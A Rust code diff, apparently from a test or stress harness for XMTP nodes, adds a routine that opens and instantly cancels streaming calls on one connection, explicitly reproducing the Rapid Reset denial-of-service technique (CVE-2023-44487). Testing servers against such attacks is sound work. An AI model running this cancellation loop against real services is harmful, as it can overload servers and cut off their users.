@@ -8,7 +8,7 @@ use std::ops::ControlFlow;
 use std::sync::Arc;
 use std::time::Duration;
 
-use tokio::time::{Instant, sleep, sleep_until, timeout_at};
+use tokio::time::{Instant, sleep, sleep_until, timeout, timeout_at};
 
 use crate::subject::xmtp::client::{
     ClientConnection, ClientLink, ClientNotice, ClientObserver, Dialer, StreamSettings, WATCHDOG_INTERVALS,
@@ -22,11 +22,18 @@ const PROBE_PATIENCE: Duration = Duration::from_secs(5);
 /// How long a stream that it has half-closed may go on, by which even a node that replays over a narrow link is done.
 const END_PATIENCE: Duration = Duration::from_secs(120);
 
-/// Visits the node until `end`, and asks for something `every` so often on average.
-pub(crate) async fn visit(dialer: Dialer, mut repertoire: Repertoire, every: Duration, end: Instant) {
+/// Shorter than the way there: a call is cancelled before anybody can have answered it.
+const CALL_PATIENCE: Duration = Duration::from_millis(1);
+
+/// Visits the node until `end`, and asks for something `every` so often on average; before each visit it cancels so many
+/// calls.
+pub(crate) async fn visit(dialer: Dialer, mut repertoire: Repertoire, every: Duration, cancels: u32, end: Instant) {
     let mut attempt = 0;
     while Instant::now() < end {
         attempt += 1;
+        if cancels > 0 {
+            cancel_calls(&dialer, cancels).await;
+        }
         if let Ok(link) = dialer.dial().await {
             repertoire.begin_anew();
             Stay { connection: open(link, attempt, &mut repertoire), repertoire: &mut repertoire, every }
@@ -34,6 +41,18 @@ pub(crate) async fn visit(dialer: Dialer, mut repertoire: Repertoire, every: Dur
                 .await;
         }
         sleep(every).await;
+    }
+}
+
+/// One call after the other on one connection, each cancelled at once; that may cost it the connection (CVE-2023-44487).
+async fn cancel_calls(dialer: &Dialer, cancels: u32) {
+    let Ok(link) = dialer.dial().await else { return };
+    for _ in 0..cancels {
+        if link.is_closed() {
+            return;
+        }
+        let mut client = link.client();
+        drop(timeout(CALL_PATIENCE, client.subscribe(tokio_stream::pending())).await);
     }
 }
 
